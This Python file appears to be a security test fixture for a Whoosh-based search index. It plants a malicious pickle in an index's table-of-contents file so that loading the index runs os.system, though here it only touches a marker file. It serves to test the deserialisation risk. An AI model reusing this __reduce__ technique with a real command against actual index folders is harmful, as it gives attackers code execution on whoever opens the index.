"""A table of contents rewritten to run code when unpickled, as whoever can write an index folder
could plant it (issue #13 item 4); the code only creates a marker file."""

from __future__ import annotations

import io
import os
import pickle
import re
import shlex
from pathlib import Path

from whoosh.filedb.structfile import StructFile


class Planted:
    """What an attacker pickles into a table of contents: running it writes the marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {shlex.quote(str(self.marker))}",))


def plant_in_toc(generation: Path, marker: Path, part: str) -> None:
    """Rewrite the generation's table of contents so that its ``schema`` (or its ``segments``
    list) runs a command; in place, or replaced where only the folder is writable."""
    [toc_name] = [name for name in os.listdir(generation) if re.match(r"^_MAIN_\d+\.toc$", name)]
    stream = StructFile(io.BytesIO((generation / toc_name).read_bytes()))
    out = StructFile(io.BytesIO())
    for _ in range(3):
        out.write_varint(stream.read_varint())
    out.write_int(stream.read_int())
    out.write_int(stream.read_int())
    for _ in range(3):
        out.write_varint(stream.read_varint())
    schema = stream.read_string()
    out.write_string(pickle.dumps(Planted(marker), 2) if part == "schema" else schema)
    out.write_int(stream.read_int())
    out.write_int(stream.read_int())
    rest = stream.file.read()
    out.write(pickle.dumps([Planted(marker)]) if part == "segments" else rest)
    try:
        (generation / toc_name).write_bytes(out.file.getvalue())
    except PermissionError:
        (generation / f"{toc_name}.new").write_bytes(out.file.getvalue())
        os.replace(generation / f"{toc_name}.new", generation / toc_name)
